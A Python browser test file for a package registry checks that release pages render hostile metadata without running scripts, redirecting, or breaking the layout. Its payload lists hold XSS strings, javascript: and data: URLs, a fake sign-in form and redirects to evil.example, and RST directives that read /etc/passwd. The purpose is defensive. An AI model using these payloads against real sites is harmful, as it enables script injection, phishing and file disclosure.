"""Pages of hostile metadata in Chromium: nothing runs, nothing leads astray, nothing breaks out."""

from __future__ import annotations

import json
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from tests.browser.conftest import find_serious, measure, open_page, serve_new
from tests.browser.sample_registry import make_native_conda
from tests.factories.packages import make_wheel, metadata
from tests.server.conftest import Place
from twofold.server.model import Action
from twofold.server.store import channels, files

if TYPE_CHECKING:
    from playwright.sync_api import Browser, Page

pytestmark = pytest.mark.slow

SCRIPTS = (
    "<script>document.title='owned'</script>",
    "<img src=x onerror=\"document.title='owned'\">",
    "<svg/onload=\"document.title='owned'\">",
    "'\"><iframe srcdoc='<script>parent.document.title=\"owned\"</script>'>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=document.title='owned'>",
    "{{ 7*7 }}${7*7}<%= 7*7 %>",
    "<base href='https://evil.example/'><meta http-equiv='refresh' content='0;url=//evil.example'>",
    "<a href='javascript:document.title=1' style='position:fixed;inset:0'>everywhere</a>",
    "</article></main></body><h1 id='main'>forged</h1>",
    "<form action='https://evil.example/'><input name=password><button>Sign in</button></form>",
)
BIDI = "\u202egpj.exe\u202c \u2066abc\u2069 \u05e9\u05dc\u05d5\u05dd \u0645\u0631\u062d\u0628\u0627"
EMOJI = "\U0001f469\u200d\U0001f680\U0001f3f4 \u200b\u200d e" + "\u0301" * 200
LONG = "w" * 3000
RST = """\
Title
=====

.. raw:: html

   <script>document.title='owned'</script>

.. include:: /etc/passwd

`x <javascript:document.title=1>`_ `y <data:text/html,<script>1</script>>`_ |z|

.. |z| image:: javascript:document.title=1
   :target: vbscript:msgbox
   :width: 99999px

.. csv-table::
   :file: /etc/passwd

================ ========
{long}           cell
================ ========
"""
MARKDOWN = "\n\n".join(
    (
        *SCRIPTS,
        "[a](javascript:x) [b](data:text/html;base64,PHNjcmlwdD4=) [c](vbscript:x) <javascript:x>",
        "[d](JaVaScRiPt:x) [e](&#106;avascript:x) [f](java\tscript:x) ![g](data:image/svg+xml,x)",
        "[h]: javascript:x 'y'\n\n[h]",
        "# " + LONG,
        "| " + " | ".join("abcdef" * 20 for _ in range(12)) + " |\n|" + "---|" * 12,
        "> " * 60 + "deep",
        "<details open><summary>s</summary><table><tr><td>" + "x" * 400 + "</td></tr></table>",
        "<h1>h1</h1><div style='width:9000px'>wide</div><pre>" + "y" * 3000 + "</pre>",
        BIDI,
        EMOJI,
    )
)
ADDRESSES = (
    "javascript:document.title='owned'",
    "data:text/html,<script>document.title='owned'</script>",
    "vbscript:msgbox(1)",
    " javascript:x",
    "https://example.org/" + "a" * 1500,
    "https://example.org/\"onmouseover=\"document.title='owned'",
    "//evil.example/x",
    "https:javascript:x",
    "http://user:password@example.org/",
)


def make_headers(text: str, media: str) -> list[str]:
    """Core metadata in which every field that is shown holds something hostile."""
    urls = [
        f"Project-URL: {label or 'x'}, {url}"
        for label, url in zip(
            (*SCRIPTS[:3], "", " ", BIDI, EMOJI, LONG[:300], "Homepage"), ADDRESSES, strict=True
        )
    ]
    extras = [f"Provides-Extra: extra-{number}" for number in range(300)]
    needs = [f"Requires-Dist: dep-{number}; extra == 'extra-{number}'" for number in range(300)]
    return [
        f"Summary: {SCRIPTS[0]} {BIDI} {EMOJI} {LONG[:400]}",
        f"Author: {SCRIPTS[1]}",
        f"Maintainer: {BIDI}{LONG[:300]}",
        "License-Expression: MIT AND (Apache-2.0 WITH LLVM-exception OR LicenseRef-"
        + "x" * 60
        + ")",
        f"Keywords: {SCRIPTS[2]},{LONG[:200]},,  ,{BIDI}",
        "Home-page: javascript:document.title='owned'",
        "Requires-Dist: other @ https://example.org/" + "a" * 300,
        f"Description-Content-Type: {media}",
        *urls,
        *extras,
        *needs,
        "",
        text,
    ]


def publish_as_it_is(place: Place, folder: Path, version: str, headers: list[str]) -> None:
    """Publish a release, and store metadata with it that an upload is refused for."""
    registry = place.registry
    done = place.publish(make_wheel(folder, "hostile", version))
    content = metadata("hostile", version, *headers)
    with registry.transaction(place.owner, "main", Action.ADMIN, "hostile") as change:
        files.update_file(change.db, done.file.id, metadata=content)
        project = channels.get_project(change.db, done.file.project_id)
        change.rerender(project, replace(done.file, metadata=content))
    registry.description_renderer.request(registry.database, replace(done.file, metadata=content))


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Place]:
    """A registry of hostile releases, one for each kind of description and for conda."""
    folder = tmp_path_factory.mktemp("hostile")
    with serve_new(folder) as place:
        for version, (text, media) in enumerate(
            (
                (MARKDOWN, "text/markdown"),
                (RST.replace("{long}", LONG[:200]), "text/x-rst"),
                (MARKDOWN, "text/plain"),
                ("", "text/markdown"),
            )
        ):
            publish_as_it_is(place, folder / "files", f"{version}.0", make_headers(text, media))
        conda = make_native_conda(folder / "conda", MARKDOWN, README_md=MARKDOWN.encode())
        place.publish(conda)
        yield place


PATHS = (
    *(f"/main/project/hostile/{version}.0" for version in range(4)),
    "/main/project/libmesh",
    "/main",
    "/-/search?q=hostile",
    "/main/project/hostile/-/files/hostile-0.0-py3-none-any.whl",
    "/main/project/hostile/-/files/hostile-0.0-py3-none-any.whl?member=hostile-0.0.dist-info/METADATA",
    "/main/project/hostile/-/compare?from=0.0&to=1.0",
    "/-/search?q=%3Cscript%3Edocument.title%3D1%3C/script%3E%E2%80%AE" + "w" * 180,
    "/main/project/%3Cscript%3E/%E2%80%AE",
    "/-/users/%22%3E%3Cscript%3E",
    "/-/sign-in?next=javascript:x",
)


def wait_until_rendered(page: Page, url: str) -> None:
    """Wait for the renderer of descriptions, which works after the upload."""
    for _ in range(100):
        page.goto(url)
        if page.locator("article.prose pre:only-child").count() == 0:
            return
        page.wait_for_timeout(100)


@pytest.mark.parametrize("scheme", ["light", "dark"])
@pytest.mark.parametrize("width", [320, 375, 1280, 3840])
def test_nothing_hostile_runs_breaks_out_or_widens_the_page(
    browser: Browser, axe: str, hostile: Place, width: int, scheme: str
) -> None:
    asked: list[str] = []
    found: dict[str, list[str]] = {}
    wide: dict[str, tuple[int, int, int]] = {}
    with open_page(browser, width, color_scheme=scheme) as page:
        page.on("request", lambda request: asked.append(request.url))
        page.on("dialog", lambda dialog: asked.append(f"dialog {dialog.message}"))
        wait_until_rendered(page, f"{hostile.url}/main/project/hostile/0.0")
        for path in PATHS:
            page.goto(hostile.url + path)
            for folded in page.locator("details:not([open]) > summary").all()[:40]:
                if folded.is_visible():
                    folded.click()
            assert "owned" not in page.title() and page.title() != "1", path
            assert page.locator("h1").count() == 1 and page.locator("main").count() == 1, path
            assert page.locator("main form[action*='evil'], iframe, object, base").count() == 0
            links = page.eval_on_selector_all("a[href]", "all => all.map(one => one.protocol)")
            assert set(links) <= {"http:", "https:", "mailto:"}, (path, set(links))
            handlers = page.evaluate(
                "[...document.querySelectorAll('body *')].flatMap(one => "
                "one.getAttributeNames().filter(name => name.startsWith('on')))"
            )
            assert handlers == [], path
            size = measure(page)
            if size[0] > size[1]:
                wide[path] = size
            if width in (375, 1280):
                found[path] = find_serious(page, axe)
    assert wide == {}
    assert {path: texts for path, texts in found.items() if texts} == {}
    assert [url for url in asked if not url.startswith(hostile.url)] == []


def test_words_that_turn_text_around_stay_in_their_place(browser: Browser, hostile: Place) -> None:
    """A bidirectional override in a summary turns nothing of what follows it on the page."""
    with open_page(browser, 1280) as page:
        page.goto(f"{hostile.url}/main/project/hostile/0.0")
        for selector in (".lead", ".facts dd"):
            isolated = page.eval_on_selector_all(
                selector, "all => all.map(one => getComputedStyle(one).unicodeBidi)"
            )
            assert set(isolated) <= {"isolate", "plaintext", "isolate-override"}, selector


def test_a_release_of_2000_files_is_a_page(browser: Browser, tmp_path: Path) -> None:
    with serve_new(tmp_path) as place:
        done = place.publish(make_wheel(tmp_path, "many", "1.0"))
        with place.registry.database.write() as db:
            columns = [row[1] for row in db.exec_driver_sql("PRAGMA table_info(files)")]
            kept = ", ".join(name for name in columns if name not in ("id", "filename", "tags"))
            for number in range(2000):
                tag = f"cp31{number % 9}-cp31{number % 9}-manylinux_2_{number}_x86_64"
                name = f"many-1.0-{tag}.whl"
                db.exec_driver_sql(
                    f"INSERT INTO files (filename, tags, {kept}) SELECT ?, ?, {kept} "
                    "FROM files WHERE id = ?",
                    (name, json.dumps([tag]), done.file.id),
                )
        answer = place.get("/main/project/many", Accept_Encoding="zstd")
        assert answer.status_code == 200
        size = int(answer.headers["content-length"])
        assert size < 50_000 or "more files" in answer.text, size
        with open_page(browser, 375) as page:
            page.goto(f"{place.url}/main/project/many")
            width, window, height = measure(page)
            assert width <= window and height < 6000
